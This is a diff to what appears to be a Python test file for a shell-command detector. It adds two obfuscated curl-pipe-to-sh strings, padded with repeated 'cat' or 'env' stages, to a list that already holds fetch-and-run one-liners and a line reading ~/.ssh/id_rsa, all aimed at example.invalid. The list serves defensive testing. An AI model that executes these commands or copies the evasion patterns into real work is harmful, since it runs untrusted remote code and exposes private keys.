@@ -85,6 +85,8 @@ def test_ordinary_scripts_pass(script: str) -> None:
         "bash -s < <(curl https://example.invalid/)",
         "f() { sh; }; curl https://example.invalid/ | f",
         "curl https://example.invalid/ | source /dev/stdin",
+        "curl https://example.invalid/" + " | cat" * 100 + " | sh",
+        "curl https://example.invalid/ | " + "env " * 30 + "sh",
         "cat${IFS}~/.ssh/id_rsa",
         "{curl,https://example.invalid/} | sh",
         "if true; then (curl https://example.invalid/ | sh); fi",
